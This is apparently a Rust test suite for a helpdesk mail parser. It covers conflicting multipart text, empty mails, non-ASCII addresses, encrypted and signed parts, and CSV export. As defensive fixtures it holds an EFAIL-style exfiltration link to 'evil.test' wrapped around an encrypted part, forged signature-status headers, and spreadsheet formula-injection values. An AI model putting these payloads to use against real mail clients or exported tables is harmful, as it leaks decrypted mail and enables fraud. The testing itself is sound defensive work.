//! Mails that say little, say two things, or cannot be opened: cases of group F that need more than one expectation.

use guichet::desk::figures::{Figures, Group};
use guichet::mail::{Author, Incoming, Kind, Limits, read};

fn reads(raw: &str) -> Incoming {
    read(raw.replace('\n', "\r\n").as_bytes(), &Limits::default())
}

fn has(mail: &Incoming, code: &str) -> bool {
    mail.remarks.iter().any(|remark| remark.code == code)
}

fn two(plain: &str, html: &str) -> Incoming {
    reads(&format!(
        "From: a@x.test\nSubject: x\nContent-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/plain; charset=utf-8\n\n{plain}\n--b\n\
         Content-Type: text/html; charset=utf-8\n\n{html}\n--b--\n"
    ))
}

#[test]
fn f14_parts_that_disagree_are_told() {
    let raised = two("Please approve 10 for Anna.", "<p>Please approve 10,000 for Anna.</p>");
    assert!(has(&raised, "parts-differ"), "{:?}", raised.remarks);
    assert_eq!(raised.text, "Please approve 10,000 for Anna.", "one text, the one that its author saw, from which commands are read, too");
    assert_eq!(raised.other.as_deref(), Some("Please approve 10 for Anna."), "the other one is there");
    let other = two("Thanks a lot for your help.", "<p>Send the money to this account now.</p>");
    assert!(has(&other, "parts-differ") && other.text.starts_with("Send"));
    let pictures = two("Thanks a lot for your help.", "<img src='cid:x'>");
    assert_eq!(pictures.text, "Thanks a lot for your help.", "HTML without words says nothing else");
    for html in ["<p>Please approve <b>10</b>&nbsp;for Anna.</p>", "<p>Please approve 10 for <a href='https://x.test/1234'>Anna</a>.</p>"] {
        assert!(!has(&two("Please approve 10 for Anna.", html), "parts-differ"), "{html}");
    }
    let stub = two("See the HTML part.", &format!("<p>{}</p>", "The third floor has no light. ".repeat(30)));
    assert!(has(&stub, "text-stub") && stub.text.contains("third floor"), "a stub is no text");
}

#[test]
fn f06_f21_what_a_mail_declares_is_told_beside_what_was_understood() {
    let raw = b"From: a@x.test\nTo: root@localhost, b@x.test\nSubject: Caf\xe9\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\
        Content-Type: text/plain; charset=utf-8\n\nd\xe9j\xe0 vu, tr\xe8s bien\n--b\n\
        Content-Type: application/pdf; name=\"/tmp/a.pdf\"\n\nx\n--b\nContent-Type: application/pdf\n\nx\n--b--\n";
    let mail = read(raw, &Limits::default());
    assert_eq!((mail.subject.as_str(), mail.text.as_str()), ("Caf\u{e9}", "d\u{e9}j\u{e0} vu, tr\u{e8}s bien"));
    let told = read::declared(raw, &mail, &Limits::default());
    assert_eq!((told.subject.as_str(), told.text.as_str()), ("Caf\u{fffd}", "d\u{fffd}j\u{fffd} vu, tr\u{fffd}s bien"));
    assert_eq!(told.names.iter().map(|(_, name)| name.as_str()).collect::<Vec<_>>(), ["/tmp/a.pdf"]);
    assert_eq!((told.to_unread, told.cc_unread), (vec!["root@localhost".to_owned()], vec![]));
    // An encoded word is read in the same way by both, and HTML without a plain part is told as it is shown.
    let word = reads("From: a@x.test\nSubject: =?iso-8859-1?q?Caf=E9?=\nContent-Type: text/html\n\n<p>Bonjour</p>\n");
    let told = read::declared(b"Subject: =?iso-8859-1?q?Caf=E9?=\n\n", &word, &Limits::default());
    assert_eq!((told.subject.as_str(), told.text.as_str()), ("Caf\u{e9}", "Bonjour"));
}

#[test]
fn f15_almost_nothing_is_still_a_mail() {
    for nothing in [
        "",
        "\n",
        "\n\n\n",
        "From: a@x.test\n",
        "From: a@x.test\n\n",
        "From: a@x.test\nSubject:\nContent-Type: text/html\n\n<html><body></body></html>",
    ] {
        let mail = reads(nothing);
        assert_eq!((mail.text.as_str(), mail.reply.as_str(), mail.subject.as_str()), ("", "", ""), "{nothing:?}");
        assert!(mail.attachments.is_empty() && mail.kind == Kind::Human, "{nothing:?}");
    }
    let body_only = reads("\nThe printer burns.");
    assert_eq!((body_only.text.as_str(), &body_only.from), ("The printer burns.", &Author::Missing));
    let file_only = reads("From: a@x.test\nContent-Type: application/pdf; name=plan.pdf\nContent-Transfer-Encoding: base64\n\nJVBERi0=\n");
    assert_eq!((file_only.text.as_str(), file_only.attachments[0].name.as_str()), ("", "plan.pdf"));
    let blank = two(" ", "<p>&nbsp;</p>");
    assert_eq!((blank.text.as_str(), blank.attachments.len()), ("", 0));
}

#[test]
fn f16_what_is_encrypted_stays_closed_and_nothing_in_a_mail_vouches_for_it() {
    let closed = reads(
        "From: a@x.test\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n\
         Content-Transfer-Encoding: base64\n\nMIAGCSqGSIb3DQEHA6CAMIACAQAx\n",
    );
    assert_eq!((closed.text.as_str(), closed.attachments[0].name.as_str()), ("", "smime.p7m"));
    // The halves of a link around a closed part (EFAIL) stay halves of different parts.
    let around = reads(
        "From: a@x.test\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<p>Look</p><img src=\"http://evil.test/\n--b\n\
         Content-Type: application/pkcs7-mime; name=smime.p7m\nContent-Transfer-Encoding: base64\n\nc2VjcmV0IHdvcmRz\n--b\nContent-Type: text/html\n\n\">\n--b--\n",
    );
    assert!(!around.text.contains("secret") && !around.html.clone().unwrap_or_default().contains("secret"));
    let safe = guichet::web::sanitise::sanitise(&around.html.clone().unwrap_or_default(), &Limits::default()).unwrap();
    assert!(!safe.as_str().contains("evil"), "{}", safe.as_str());
    assert_eq!(around.attachments.len(), 1);
    // A signed mail is read as an unsigned one; a header that says so changes nothing.
    let signed = reads(
        "From: a@x.test\nX-Signature-Status: good\nX-PGP-Signed: valid\nContent-Type: multipart/signed; micalg=sha-256; protocol=\"application/pgp-signature\"; boundary=b\n\n\
         --b\nContent-Type: text/plain\n\nClose it.\n--b\nContent-Type: application/pgp-signature; name=signature.asc\n\n-----BEGIN PGP SIGNATURE-----\n--b--\n",
    );
    assert_eq!((signed.text.as_str(), signed.attachments.len(), signed.kind), ("Close it.", 1, Kind::Human));
    assert!(signed.authentication_results.is_empty());
}

#[test]
fn f20_addresses_and_headers_beyond_ascii() {
    let raw = "From: Zo\u{e9} L\u{e9}on <zo\u{e9}@b\u{fc}cher.test>\nTo: \u{43f}\u{43e}\u{447}\u{442}\u{430}@\u{43f}\u{440}\u{438}\u{43c}\u{435}\u{440}.test, support@desk.test\n\
               Subject: \u{96fb}\u{6c17} caf\u{e9}\nContent-Type: text/plain; charset=utf-8\n\nx\n";
    let mail = reads(raw);
    let Author::One(author) = &mail.from else { panic!("{:?}", mail.from) };
    assert_eq!((author.name.as_deref(), author.address.local()), (Some("Zo\u{e9} L\u{e9}on"), "zo\u{e9}"));
    assert_eq!(author.address.domain(), "xn--bcher-kva.test", "compared as A-labels");
    assert_eq!(mail.subject, "\u{96fb}\u{6c17} caf\u{e9}");
    assert_eq!(mail.to.len(), 2, "{:?}", mail.to);
    assert_eq!(mail.to[0].address.local(), "\u{43f}\u{43e}\u{447}\u{442}\u{430}");
}

#[test]
fn g16_no_cell_of_an_exported_table_is_a_formula() {
    for hostile in ["=HYPERLINK(1)", "+1+1", "-2", "@SUM(A1)", "\t=1", "\r=1"] {
        let group = Group { key: format!("{hostile}\"x@y.test"), ..Group::default() };
        let table = Figures { agents: vec![group], ..Figures::default() }.csv();
        let cell = format!("agent,\"'{hostile}\"\"x@y.test\",");
        assert!(table.contains(&cell), "{table}");
    }
}
